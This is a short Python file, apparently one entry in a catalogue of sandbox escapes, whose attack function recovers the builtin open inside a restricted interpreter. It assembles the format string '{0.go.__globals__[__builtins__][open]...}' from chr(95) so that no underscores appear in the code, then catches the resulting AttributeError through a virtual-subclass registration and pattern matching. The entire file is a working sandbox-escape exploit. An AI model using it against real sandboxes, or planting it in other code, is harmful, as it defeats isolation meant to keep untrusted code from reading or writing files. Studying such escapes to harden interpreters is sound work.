# gained: function open
from abc import ABC
from dataclasses import dataclass
from typing import Any


@dataclass
class Odd(ABC):
    obj: Any


class Own:
    def go(self) -> None:
        return None


def read(template: str, value: Any) -> Any:
    try:
        template.format(value)
    except AttributeError as error:
        match error:
            case Odd(found):
                return found
    return None


def attack(path: str) -> Any:
    Odd.register(AttributeError)
    under = chr(95) * 2
    return read(
        "{0.go."
        + under
        + "globals"
        + under
        + "["
        + under
        + "builtins"
        + under
        + "][open].nothing}",
        Own(),
    )
